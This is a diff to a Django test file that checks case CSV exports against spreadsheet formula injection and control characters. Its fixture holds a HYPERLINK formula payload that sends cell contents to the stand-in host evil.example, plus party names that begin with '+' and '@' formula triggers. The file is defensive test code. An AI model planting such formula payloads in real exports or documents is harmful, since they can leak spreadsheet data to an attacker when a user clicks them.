@@ -25,7 +25,7 @@ EVIL_SUMMARY = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 def _poisoned_case(world: World) -> Case:
     case = f.register(world.user("demo_mediator"))
     # Written under the services, as older data or another way in may have left it.
-    Case.objects.filter(pk=case.pk).update(summary=EVIL_SUMMARY + "\x00\x01尾")
+    Case.objects.filter(pk=case.pk).update(summary=EVIL_SUMMARY + "\x01\x02尾")
     Party.objects.filter(case=case, name="王建华").update(name="+王建华")
     Party.objects.filter(case=case, name="李秀英").update(name="@李秀英\x0b")
     return case
@@ -58,7 +58,7 @@ def test_the_case_csv_neutralises_formulas(
     assert response.status_code == 200
     text = response.content.decode("utf-8-sig")
     assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
-    assert "\x00" not in text and "\x01" not in text
+    assert "\x01" not in text and "\x02" not in text
 
 
 def test_the_ledger_export_survives_a_control_character(
